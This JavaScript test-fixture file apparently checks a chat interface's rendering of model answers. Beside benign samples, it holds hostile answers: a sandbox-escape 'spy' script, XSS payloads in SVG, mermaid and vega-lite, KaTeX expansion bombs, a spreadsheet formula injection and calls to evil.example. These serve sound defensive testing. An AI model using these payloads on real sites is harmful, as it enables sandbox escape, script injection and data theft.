// Answers with all that is drawn beside words, and those that want out of their frames.
const png = "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR4nGNgYGD4TxyMhFEAAKpkA/1oUKQAAAAAAElFTkSuQmCC";

export const answers = {
  sums: "| שם | סכום |\n|---|---|\n| דנה כהן מתל אביב | -5 |\n| Ann of the long name | 12 |",
  deep: Array.from({ length: 20 }, (_, i) => `${"  ".repeat(i)}- ${i + 1} deep`).join("\n"),
  long: Array.from({ length: 300 }, (_, i) => `Paragraph ${i + 1} of a long answer.`).join("\n\n"),
  formulas: `The roots are $x_1 = \\frac{-b + \\sqrt{b^2 - 4ac}}{2a}$ and \\(x_2\\), with $a_1*b_1$ and $a_2*b_2$ *untouched*. It costs $5 and $10, \`$HOME/$USER\`.

$$
\\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}
\\begin{pmatrix} x_1 \\\\ x_2 \\end{pmatrix}
= \\sum_{i=1}^{n} \\int_0^\\infty e^{-t^2}\\,dt
$$

So that

\\[ \\hat{f}(\\xi) = \\int_{-\\infty}^{\\infty} f(x)\\, e^{-2\\pi i x \\xi} \\, dx \\]

| Name | Formula |
|---|---|
| Euler | $e^{i\\pi} + 1 = 0$ |`,
  diagram: "Here is how it goes.\n\n```mermaid\nflowchart LR\n  A[Message] --> B{Allowed?}\n  B -->|yes| C[Answer]\n  B -->|no| D[Ask a person]\n  D --> B\n```\n\nand in time\n\n```mermaid\nsequenceDiagram\n  Person->>Hearth: Hello\n  Hearth->>Model: Hello\n  Model-->>Person: Hi!\n```",
  chart: '```vega-lite\n{"title":"Rain","width":"container","data":{"values":[{"day":"Mon","mm":4},{"day":"Tue","mm":9},{"day":"Wed","mm":2}]},"mark":"bar","encoding":{"x":{"field":"day","type":"nominal"},"y":{"field":"mm","type":"quantitative"}}}\n```',
  broken: "```mermaid\nflowchart LR\n  A[[[ --> \n```\n\n```vega-lite\n{\"mark\": 3,\n```\n\n$\\frac{1}{$ is no formula.",
  notes: `Quokkas sleep by day.[^1] They climb trees.[^zoo]

- [x] read about quokkas
- [ ] see one

![dots](data:image/png;base64,${png})

![a quokka](https://pictures.example/quokka.png)

| Animal | Weight | Price |
|---|--:|--:|
| Quokka | 3.1 | $1,200 |
| Numbat | 0.6 | $90 |
| Dingo, wild | 15 | $700 |
| =HYPERLINK("https://evil.example") | 2 | $5 |

[^1]: Sinclair, 1998, page 12.
[^zoo]: So says a *zoo* in Perth.`,
  page1: '```html title="Counter"\n<!doctype html><title>Counter</title><style>body{font:16px system-ui;padding:2rem}button{font:inherit}</style><h1>Count</h1><button id="b">0</button>\n<script>b.onclick = () => b.textContent++</script>\n```',
  page2: '```html title="Counter"\n<!doctype html><title>Counter</title><style>body{font:16px system-ui;padding:2rem;background:#eef}</style><h1>Count down</h1><button id="b">10</button>\n<script>b.onclick = () => b.textContent--</script>\n```',
  svg: '```svg title="Sun"\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" width="240"><circle cx="50" cy="50" r="30" fill="#f39a63"/></svg>\n```',
  text: "````markdown title=\"Letter\"\n# Dear Mira\n\nthe **numbers** are in, $a^2$.\n````",
  hebrew: "שלום! הנוסחה היא $E = mc^2$.\n\n```mermaid\nflowchart LR\n  A[התחלה] --> B[סוף]\n```\n\n| עיר | מעלות |\n|---|--:|\n| חיפה | 21 |\n| אילת | 33 |\n\nהערה[^1]\n\n[^1]: מקור טוב.",
};

/** spy tries whatever a page could try from inside of a frame, and writes what worked. */
const spy = `
const got = [];
const attempt = (name, f) => { try { const v = f(); if (v !== undefined && v !== null && v !== false) got.push(name + ":" + String(v).slice(0, 40)); } catch {} };
attempt("parent document", () => parent.document.title);
attempt("top cookie", () => top.document.cookie);
attempt("storage", () => localStorage.length);
attempt("session", () => sessionStorage.length);
attempt("cookie", () => document.cookie);
attempt("opener", () => opener);
attempt("frame element", () => window.frameElement);
attempt("top location", () => { top.location = "https://evil.example/top"; });
attempt("parent name", () => parent.name);
attempt("popup", () => window.open("https://evil.example/popup"));
attempt("alert", () => alert("out"));
const wait = [];
const later = (name, f) => wait.push((async () => { try { const v = await f(); if (v !== undefined) got.push(name + ":" + String(v).slice(0, 40)); } catch {} })());
later("fetch gateway", async () => (await fetch(ORIGIN + "/healthz")).status);
later("fetch gateway, unread", async () => (await fetch(ORIGIN + "/healthz", { mode: "no-cors" })).type);
later("fetch away", async () => (await fetch("https://evil.example/f", { mode: "no-cors" })).type);
navigator.sendBeacon("https://evil.example/b", "x"); // says yes in any case
// A frame inside of the frame would have everything anew.
window.addEventListener("message", (e) => { if (e.source !== parent && String(e.data).startsWith("nested")) got.push(String(e.data)); });
const nested = (how) => "<script>parent.postMessage('nested " + how + " ' + typeof RTCPeerConnection, '*')<" + "/script>";
const SD = "src" + "doc"; // the frame knows the word
const framed = (how) => '<iframe ' + SD + '="' + nested(how) + '"></iframe>';
const ways = {
  property: () => { const f = document.createElement("iframe"); f[SD] = nested("property"); document.body.append(f); },
  attribute: () => { const f = document.createElement("iframe"); f.setAttribute(SD, nested("attribute")); document.body.append(f); },
  node: () => { const f = document.createElement("iframe"); const a = document.createAttribute(SD); a.value = nested("node"); f.setAttributeNode(a); document.body.append(f); },
  markup: () => document.body.insertAdjacentHTML("beforeend", framed("markup")),
  written: () => document.write(framed("written")),
  other: () => { const d = document.implementation.createHTMLDocument(""); d.body.innerHTML = framed("other"); document.body.append(d.body.firstChild); },
  range: () => document.body.append(document.createRange().createContextualFragment(framed("range"))),
  parsed: () => document.body.append(new DOMParser().parseFromString(framed("parsed"), "text/html").body.firstChild),
  xml: () => document.body.append(document.adoptNode(new DOMParser().parseFromString('<iframe xmlns="http://www.w3.org/1999/xhtml" ' + SD + '="x"/>'.replace('"x"', '"&lt;script>parent.postMessage(&apos;nested xml&apos;,&apos;*&apos;)&lt;/script>"'), "text/xml").documentElement)),
  shadow: () => { const e = document.createElement("p"); document.body.append(e); const r = e.attachShadow({ mode: "closed" }); const f = document.createElement("iframe"); f[SD] = nested("shadow"); r.append(f); },
  declared: () => document.write('<p><template shadowrootmode="closed">' + framed("declared") + "</template></p>"),
  unsafe: () => document.body.appendChild(document.createElement("p")).setHTMLUnsafe('<p><template shadowrootmode="closed">' + framed("unsafe") + "</template></p>"),
  command: () => { document.designMode = "on"; document.body.focus(); document.execCommand("selectAll"); document.execCommand("insertHTML", false, framed("command")); document.designMode = "off"; },
  blob: () => { const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob([nested("blob")], { type: "text/html" })); document.body.append(f); },
  data: () => { const f = document.createElement("iframe"); f.src = "data:text/html," + encodeURIComponent(nested("data")); document.body.append(f); },
  script: () => { const f = document.createElement("iframe"); f.src = "javascript:" + encodeURIComponent("'" + nested("script").replaceAll("'", "\\\\'") + "'"); document.body.append(f); },
  object: () => { const f = document.createElement("object"); f.type = "text/html"; f.data = "data:text/html," + encodeURIComponent(nested("object")); document.body.append(f); },
};
for (const how of Object.values(ways)) { try { how(); } catch {} }
attempt("calls", () => typeof RTCPeerConnection === "function");
later("empty frame", async () => { const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.RTCPeerConnection && "has calls"; });
later("nested", () => new Promise((yes) => setTimeout(yes, 1200)));
later("socket", () => new Promise((yes, no) => { const s = new WebSocket(ORIGIN.replace("http", "ws")); s.onopen = () => yes("open"); s.onerror = () => no(); }));
later("image", () => new Promise((yes, no) => { const i = new Image(); i.onload = () => yes("loaded"); i.onerror = () => no(); i.src = ORIGIN + "/hearth.svg"; }));
later("script", () => new Promise((yes, no) => { const s = document.createElement("script"); s.onload = () => yes("loaded"); s.onerror = () => no(); s.src = "https://evil.example/s.js"; document.head.append(s); }));
later("clipboard read", async () => navigator.clipboard.readText());
later("clipboard write", async () => { await navigator.clipboard.writeText("evil"); return "written"; });
later("database", () => new Promise((yes, no) => { const r = indexedDB.open("hearth"); r.onsuccess = () => yes("open"); r.onerror = () => no(); }));
later("worker", async () => { await navigator.serviceWorker.register(ORIGIN + "/x.js"); return "registered"; });
later("peer", () => new Promise((yes, no) => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:evil.example" }] }); p.createDataChannel("x"); p.onicecandidate = (e) => e.candidate && yes(e.candidate.candidate); p.createOffer().then((o) => p.setLocalDescription(o)); setTimeout(no, 1500); }));
const link = document.createElement("a"); link.href = "https://evil.example/top"; link.target = "_top"; document.body.append(link); link.click();
const form = document.createElement("form"); form.action = "https://evil.example/form"; form.target = "_top"; document.body.append(form); attempt("form", () => { form.submit(); });
parent.postMessage({ n: 1, svg: "<svg onload=alert(1)></svg>", ready: true, width: 9e9, height: 9e9, failed: true }, "*");
Promise.all(wait).then(() => { document.body.textContent = "GOT[" + got.join("; ") + "]"; });
`;

/** hostile answers by name, by the addresses of the gateway and of another server. */
export const hostileAnswers = (origin, elsewhere) => ({
  spy: "```html title=\"Spy\"\n<!doctype html><title>Spy</title><body><script>const ORIGIN = " + JSON.stringify(origin) + ";" + spy + "</script>\n```",
  leave: "```html title=\"Leave\"\n<!doctype html><body><p>before</p><script>setTimeout(() => { location = '" + elsewhere + "/?secret=1'; setTimeout(() => { location = " + JSON.stringify(origin + "/") + "; }, 300); }, 300)</script>\n```",
  svg: "```svg title=\"Bad\"\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"parent.document.title='out'\"><script>parent.alert(1);fetch('" + elsewhere + "/')</script><image href=\"" + elsewhere + "/i.png\" width=\"9\" height=\"9\"/><foreignObject width=\"99\" height=\"99\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"" + elsewhere + "/frame\"></iframe></foreignObject></svg>\n```",
  mermaid: "```mermaid\n%%{init: {\"securityLevel\": \"loose\", \"htmlLabels\": true, \"themeCSS\": \"* { background: url(https://evil.example/c) }\"}}%%\nflowchart LR\n  A[\"<img src=x onerror=alert(1)><script>alert(2)</script>\"] --> B\n  click A href \"javascript:alert(3)\"\n  click B call alert(4)\n  style A fill:url(https://evil.example/f)\n```",
  chart: "```vega-lite\n{\"data\":{\"url\":\"https://evil.example/data.json\"},\"mark\":\"point\",\"encoding\":{}}\n```\n\n```vega-lite\n{\"data\":{\"values\":[{\"a\":1,\"u\":\"https://evil.example/i.png\"}]},\"transform\":[{\"calculate\":\"constructor.constructor('alert(1)')()\",\"as\":\"x\"}],\"mark\":{\"type\":\"image\",\"width\":50,\"height\":50},\"encoding\":{\"url\":{\"field\":\"u\"}}}\n```",
  bombs: "$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c\\c\\c}\\d\\d\\d\\d$\n\n$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/t.png}$ $\\htmlId{app}{x}$ $\\rule{9999em}{9999em}$\n\n$$\n" + "{".repeat(2500) + "x" + "}".repeat(2500) + "\n$$\n\nafter the bombs",
  data: `![svg](data:image/svg+xml;base64,${Buffer.from("<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20' onload='alert(1)'><script>alert(2)</script><image href='https://evil.example/in-svg.png'/><rect width='20' height='20'/></svg>").toString("base64")})\n\n![html](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n![router](https://192.168.1.1/reboot)\n\n![here](https://localhost/x.png)`,
});
